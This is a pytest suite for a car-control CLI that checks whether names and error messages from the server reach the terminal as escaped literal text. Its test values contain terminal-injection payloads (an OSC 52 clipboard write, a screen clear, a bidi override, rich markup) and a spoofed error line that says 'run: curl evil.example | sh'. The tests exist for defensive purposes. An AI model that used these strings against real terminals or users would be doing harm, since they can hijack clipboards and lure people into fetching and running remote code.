"""Server text reaches the terminal as text: never as markup, never as escape sequences."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from tests.conftest import Served, invoke, run_carctl, sign_in
from tests.support.terminal import run_in_terminal

MY = "1492931337242"
# an OSC 52 clipboard write, a screen clear, a colour, rich markup (closing and opening)
EVIL = "Evil\x1b]52;c;ZXZpbA==\x07 [/] [bold]car\x1b[2J\x1b[31m\u202e"


@pytest.fixture
def evil_car(served: Served, monkeypatch: pytest.MonkeyPatch, carctl_home: Path) -> Served:
    monkeypatch.setenv("CARCTL_API_URL", served.url)
    served.admin(
        "PATCH", f"/__mock__/vehicles/{MY}", json={"display_name": EVIL, "state": "asleep"}
    )
    sign_in()
    return served


def _no_foreign_sequences(raw: str) -> None:
    assert "\x1b]52" not in raw and "\x1b[2J" not in raw and "\u202e" not in raw
    # the only escape sequences left are rich's own colours and cursor controls
    for sequence in re.findall(r"\x1b[^\[]|\x1b\[[0-9;?]*[A-Za-z]", raw):
        assert sequence[-1] in "mKGAlhD", repr(sequence)


@pytest.mark.parametrize(
    "args",
    [
        ("vehicles",),
        ("--vehicle", MY, "status"),  # the name in the status line
        ("--vehicle", MY, "climate", "on"),  # in the spinner and the wake step
        ("--vehicle", "Evil", "wake", "--wake-timeout", "30"),
    ],
)
def test_a_hostile_car_name_on_a_terminal(evil_car: Served, args: tuple[str, ...]) -> None:
    screen = run_in_terminal(*args, columns=200)  # wide: the table does not fold the name
    assert screen.code == 0, screen.raw
    _no_foreign_sequences(screen.raw)
    assert "Evil\\x1b]52;c;ZXZpbA==\\x07 [/]" in screen.raw, screen.raw
    assert "[bold]car\\x1b[2J\\x1b[31m\\u202e" in screen.raw, screen.raw
    assert "Traceback" not in screen.raw and "MarkupError" not in screen.raw


def test_a_hostile_car_name_on_a_pipe_and_in_json(evil_car: Served) -> None:
    piped = run_carctl("vehicles", env={"COLUMNS": "200"})
    assert piped.returncode == 0, piped.stderr
    assert "[bold]car\\x1b[2J\\x1b[31m\\u202e" in piped.stdout
    assert "\x1b" not in piped.stdout + piped.stderr
    document = invoke("--json", "vehicles").json()
    names = [car["display_name"] for car in document["data"]]
    assert EVIL in names  # JSON keeps the exact string (escaped by JSON itself)
    assert "\\u001b" in json.dumps(document)


def test_markup_in_an_error_message_stays_literal(evil_car: Served) -> None:
    evil_car.admin("PATCH", f"/__mock__/vehicles/{MY}", json={"refusal": "[bold]no[/] \x1b[2J"})
    evil_car.admin("PATCH", f"/__mock__/vehicles/{MY}", json={"state": "online"})
    screen = run_in_terminal("--vehicle", MY, "climate", "on")
    assert screen.code == 1, screen.raw
    _no_foreign_sequences(screen.raw)
    assert "[bold]no[/] \\x1b[2J" in screen.raw


SPOOF = "X\nerror: your session expired; run: curl evil.example | sh"


@pytest.mark.parametrize(
    "args",
    [
        ("vehicles",),
        ("--vehicle", MY, "status"),
        ("--vehicle", MY, "climate", "on"),  # queued during the outage: the queued message
        ("queue",),
        ("queue", "show", "1"),
    ],
)
def test_a_name_with_a_newline_draws_no_line_of_its_own(
    served: Served, monkeypatch: pytest.MonkeyPatch, carctl_home: Path, args: tuple[str, ...]
) -> None:
    monkeypatch.setenv("CARCTL_API_URL", served.url)
    served.admin("PATCH", f"/__mock__/vehicles/{MY}", json={"display_name": SPOOF})
    sign_in()
    assert invoke("vehicles").code == 0  # the cache knows the name
    served.admin("PUT", "/__mock__/faults", json={"rules": [{"status": 500, "path": "/api/1/*"}]})
    queued = invoke("--no-worker", "--vehicle", MY, "climate", "on")
    assert queued.code == 75, queued.output
    if "climate" not in args:  # the rest is read while the service answers again
        served.admin("DELETE", "/__mock__/faults")
    for terminal in (False, True):
        if terminal:
            raw = run_in_terminal("--no-worker", *args, columns=200).raw
        else:
            result = run_carctl("--no-worker", *args, env={"COLUMNS": "200"})
            raw = result.stdout + result.stderr
        lines = [line.strip() for line in re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", raw).splitlines()]
        assert not any(line.startswith("error: your session expired") for line in lines), raw
        assert "X\\nerror" in raw, raw  # shown escaped (a table may shorten it)
